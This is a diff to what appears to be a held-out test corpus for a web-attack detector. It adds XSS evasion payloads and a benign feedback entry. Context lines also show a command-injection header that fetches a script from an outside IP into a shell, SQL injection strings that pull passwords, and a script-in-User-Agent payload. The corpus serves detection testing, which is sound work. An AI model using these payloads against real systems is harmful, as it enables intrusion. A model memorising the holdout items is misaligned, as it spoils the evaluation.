@@ -575,6 +575,8 @@ const HOLDOUT_4_ATTACKS: CorpusEntry[] = [
   { category: 'cmdi', name: 'holdout-4: a download spelled with quotes in a custom header', why: "c''url is curl to a shell", path: '/api/health', headers: { 'Callback-Url': "x| c''url -s http://198.51.100.7/x.sh" } },
   { category: 'sqli', name: 'holdout-4: a quote, a semicolon and a comment in a custom header', why: "admin'; -- - ends the statement after the name", path: '/api/me', headers: { ...bearer, 'Login-Hint': "admin'; -- -" } },
   { category: 'sqli', name: 'holdout-4: UNION DISTINCTROW in a header', why: 'MySQL\'s synonym of UNION DISTINCT', path: '/api/runs', headers: { ...bearer, 'Account-Id': "1' UNION DISTINCTROW SELECT password FROM users-- -" } },
+  { category: 'xss', name: 'holdout-4: a dialog name joined from strings and called at once', why: "'ale'+'rt'() spells alert only at run time", path: '/api/health', headers: { 'Display-Name': "a'ale'+'rt'()" } },
+  { category: 'xss', name: 'holdout-4: zero-padded numeric references around an argument', why: 'prompt&#0000000040;1&#0000000041; is prompt(1) to a browser, not to ModSecurity', path: `/api/search?q=${pct('prompt&#0000000040;1&#0000000041;')}` },
   { category: 'xss', name: 'holdout-4: XMLHttpRequest in the User-Agent', why: 'A log viewer that renders user agents runs it', path: '/api/health', headers: { 'User-Agent': "x=new XMLHttpRequest();x.open('GET','/api/me');x.send()" } },
 ];
 
@@ -590,6 +592,7 @@ const HOLDOUT_4_BENIGN: CorpusEntry[] = [
   { category: 'read', name: 'holdout-4: an export archive, a PHP slug and a Windows user path', why: 'Archives under /api are exports; a wiki page may be about PHP; a cookie may keep a document path', path: '/api/exports/runs-2026-11.zip', headers: { ...bearer, Cookie: 'last_file=C:/Users/ana/Documents/report.docx' } },
   { category: 'read', name: 'holdout-4: a wiki page about PHP', why: 'Slugs name languages and file types', path: '/api/wiki/php-vs-python/migrating-index.php-routes', headers: bearer },
   { category: 'write', name: 'holdout-4: semicolons before words that are commands', why: 'Prose: "; cat/dog photos", "; id cards", "; sleep well"', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: `comment=${pct("Loved it; cat/dog photos next time; id cards at the desk; sleep well, it's \"done\"")}` },
+  { category: 'write', name: 'holdout-4: quoted words before a parenthesis', why: 'Instructions quote keys and words, then explain in parentheses', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: `comment=${pct("Type 'yes' 'no' (lowercase), press 'Ctrl' + 'C' (together)")}` },
   { category: 'write', name: 'holdout-4: a question about document.cookie', why: 'Front-end questions name the cookie API in a prompt', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('How do I read document.cookie in a Jest test, and why is it empty under jsdom?') },
   { category: 'write', name: 'holdout-4: form values that start with on', why: 'ongoing, onboarding, online and "on error" are words, /onload/settings a path', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: 'status=ongoing&topic=onboarding&comment=one-off%20fix%2C%20online%20now%3B%20on%20error%20we%20retry&next=%2Fonload%2Fsettings' },
 ];
